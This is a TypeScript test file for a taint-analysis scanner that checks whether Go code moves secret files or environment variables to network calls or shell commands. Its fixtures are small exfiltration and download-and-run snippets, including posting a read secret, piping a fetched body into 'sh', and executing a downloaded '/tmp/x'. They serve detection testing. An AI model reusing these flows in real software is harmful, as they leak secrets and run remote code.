import type { TaintProbe } from '@clawback/model'
import { expect, it } from 'vitest'

import { factsOf, values } from '../testkit.js'

const probe: TaintProbe = {
  kind: 'taint',
  id: 'go',
  pack: 'test',
  tags: ['t'],
  language: 'go',
  sources: [
    { pattern: 'os.ReadFile(*secret*)', tag: 'file' },
    { pattern: 'os.Open(*secret*)', tag: 'file' },
    { pattern: 'os.Environ', tag: 'env' },
    { pattern: 'net/http.Get', tag: 'remote' },
    { pattern: 'net.Dial', tag: 'peer' },
  ],
  sinks: [
    { pattern: 'net/http.Post', tag: 'net' },
    { pattern: 'net/http.Client.Do', tag: 'net' },
    { pattern: 'net.Conn.Write', tag: 'net' },
    { pattern: 'os/exec.Command', tag: 'exec' },
    { pattern: 'os/exec.Cmd.Stdin', tag: 'exec' },
    { pattern: 'os/exec.Cmd.Args', tag: 'exec' },
  ],
  sanitizers: ['len'],
}

const header = `package a
import ("bufio"; "bytes"; "encoding/json"; "fmt"; "io"; "mime/multipart"; "net"; "net/http"; "os"; "os/exec"; "strings")
`

async function flowsOf(text: string, files: Readonly<Record<string, string>> = {}): Promise<string[]> {
  const facts = await factsOf({ 'a.go': header + text, ...files }, [probe])
  return facts
    .filter(({ kind }) => kind === 'code.flow')
    .map((fact) => `${String(fact['code.flow.source'])} > ${String(fact['code.flow.sink'])}`)
}

/** The statements inside a function, after what was read. */
const run = (lines: string) =>
  `func run() {\nb, err := os.ReadFile("secret")\nif err != nil { return }\n${lines}\n}`
const posted = 'os.ReadFile(secret) > net/http.Post'

it.each([
  ['a reader', 'http.Post("u", "t", bytes.NewReader(b))', posted],
  [
    'a conversion and a concatenation',
    's := "x" + string(b)\nhttp.Post("u", "t", strings.NewReader(s))',
    posted,
  ],
  ['a formatted text', 'http.Post(fmt.Sprintf("u?%s", b), "t", nil)', posted],
  [
    'a table that is put into JSON',
    'j, _ := json.Marshal(map[string]any{"a": b})\nhttp.Post("u", "t", bytes.NewBuffer(j))',
    posted,
  ],
  [
    'an encoder around a buffer',
    'var buf bytes.Buffer\njson.NewEncoder(&buf).Encode(b)\nhttp.Post("u", "t", &buf)',
    posted,
  ],
  [
    'a part of a form',
    'body := &bytes.Buffer{}\nw := multipart.NewWriter(body)\np, _ := w.CreateFormFile("a", "b")\np.Write(b)\nhttp.Post("u", "t", body)',
    posted,
  ],
  [
    'a builder',
    'var sb strings.Builder\nsb.WriteString(string(b))\nhttp.Post("u", "t", strings.NewReader(sb.String()))',
    posted,
  ],
  [
    'what it is decoded into',
    'var v map[string]string\njson.Unmarshal(b, &v)\nhttp.Post("u", "t", strings.NewReader(v["a"]))',
    posted,
  ],
  [
    'a channel and a goroutine',
    'ch := make(chan []byte, 1)\ngo func() { ch <- b }()\nhttp.Post("u", "t", bytes.NewReader(<-ch))',
    posted,
  ],
  ['a pipe', 'r, w := io.Pipe()\nw.Write(b)\nhttp.Post("u", "t", r)', posted],
  [
    'a header',
    'q, _ := http.NewRequest("GET", "u", nil)\nq.Header.Set("a", string(b))\nhttp.DefaultClient.Do(q)',
    'os.ReadFile(secret) > net/http.Client.Do',
  ],
  [
    'a connection that is printed to',
    'c, _ := net.Dial("tcp", "h:1")\nfmt.Fprintf(c, "%s", b)',
    'os.ReadFile(secret) > net.Conn.Write',
  ],
  [
    'lines of an open file',
    'f, _ := os.Open("secret")\ns := bufio.NewScanner(f)\nfor s.Scan() { http.Post("u", "t", strings.NewReader(s.Text())) }',
    'os.Open(secret) > net/http.Post',
  ],
  ['a deferred function', 'defer func() { http.Post("u", "t", bytes.NewReader(b)) }()', posted],
  [
    'the cases of a switch',
    'var s string\nswitch { case len(b) > 1: s = string(b); default: s = "" }\nhttp.Post("u", "t", strings.NewReader(s))',
    posted,
  ],
  [
    'a range',
    'for _, e := range os.Environ() { http.Post("u", "t", strings.NewReader(e)) }',
    'os.Environ > net/http.Post',
  ],
  [
    'the input of a command',
    'r, _ := http.Get("u")\nc := exec.Command("sh")\nc.Stdin = r.Body\nc.Run()',
    'net/http.Get(u) > os/exec.Cmd.Stdin',
  ],
  [
    'a command that is put together',
    'c := &exec.Cmd{Path: "/bin/sh", Args: []string{"sh", "-c", string(b)}}\nc.Run()',
    'os.ReadFile(secret) > os/exec.Cmd.Args',
  ],
  [
    'a file that is written and started',
    'r, _ := http.Get("u")\nf, _ := os.Create("/tmp/x")\nio.Copy(f, r.Body)\nexec.Command("/tmp/x").Run()',
    'net/http.Get(u) > os/exec.Command',
  ],
])('data is followed through %s', async (_, lines, flow) => {
  expect(await flowsOf(run(lines))).toContain(flow)
})

it('follows functions, methods, fields and several results', async () => {
  const text = `
type sender struct { url string; data []byte }
func (s *sender) load() (n int, err error) { s.data, err = read(); return }
func (s sender) send() { http.Post(s.url, "t", bytes.NewReader(s.data)) }
func read() ([]byte, error) {
  if x { return nil, io.EOF }
  return os.ReadFile("secret")
}
func main() { s := &sender{url: "u"}; s.load(); s.send() }`
  expect(await flowsOf(text)).toContain(posted)
})

it('files of one folder know each other, and those below that only they may import', async () => {
  const send =
    'package net\nimport ("bytes"; "net/http")\nfunc Send(b []byte) { http.Post("u", "t", bytes.NewReader(b)) }\n'
  const main = 'package a\nimport "m.example/x/internal/send"\nfunc main() { b, _ := load(); send.Send(b) }\n'
  const files = { 'main.go': main, 'internal/send/send.go': send }
  expect(await flowsOf('func load() ([]byte, error) { return os.ReadFile("secret") }', files)).toContain(
    posted,
  )
})

it('a file of another language beside it is read too', async () => {
  const facts = await factsOf({
    'a.go': `${header}func run() { http.Get("u") }`,
    'a.py': 'import os\nos.system("id")\n',
  })
  expect(values(facts, 'code.call.name')).toEqual(['net/http.Get', 'os.system', 'id'])
})

it.each([
  ['an error beside it', 'http.Post("u", "t", strings.NewReader(err.Error()))'],
  ['its length', 'http.Post("u", "t", strings.NewReader(fmt.Sprint(len(b))))'],
  ['another result', 'a, c := b, "x"\n_ = a\nhttp.Post("u", "t", strings.NewReader(c))'],
  ['another variable of the same type', 'var x, y bytes.Buffer\nx.Write(b)\nhttp.Post("u", "t", &y)'],
])('%s is not it', async (_, lines) => {
  expect(await flowsOf(run(lines))).toEqual([])
})

it('says what the data is to a program', async () => {
  const lines =
    'r, _ := http.Get("u")\nt, _ := io.ReadAll(r.Body)\nexec.Command("jq", string(t))\nexec.Command("sh", "-c", string(t))'
  const facts = await factsOf({ 'a.go': `${header}func run() {\n${lines}\n}` }, [probe])
  expect(values(facts, 'code.flow.place')).toEqual(['argument', 'program'])
})

it('tells tools of both kits', async () => {
  const facts = await factsOf({
    'a.go': `package a
import "github.com/mark3labs/mcp-go/mcp"
import "github.com/mark3labs/mcp-go/server"
func h() {}
func main() {
  s := server.NewMCPServer("a", "1")
  s.AddTool(mcp.NewTool("one", mcp.WithDescription("First"), mcp.WithString("x")), h)
}
`,
    'b/b.go': `package b
import "github.com/modelcontextprotocol/go-sdk/mcp"
func main() { s := mcp.NewServer(&mcp.Implementation{Name: "b"}, nil); mcp.AddTool(s, &mcp.Tool{Name: "two", Description: "Second"}, h) }
func h() {}
`,
  })
  const told = facts.filter(({ kind }) => kind === 'tool.describe')
  expect(
    told.map((fact) => `${String(fact['gen_ai.tool.name'])} ${String(fact['gen_ai.tool.description'])}`),
  ).toEqual(['one First', 'two Second'])
})
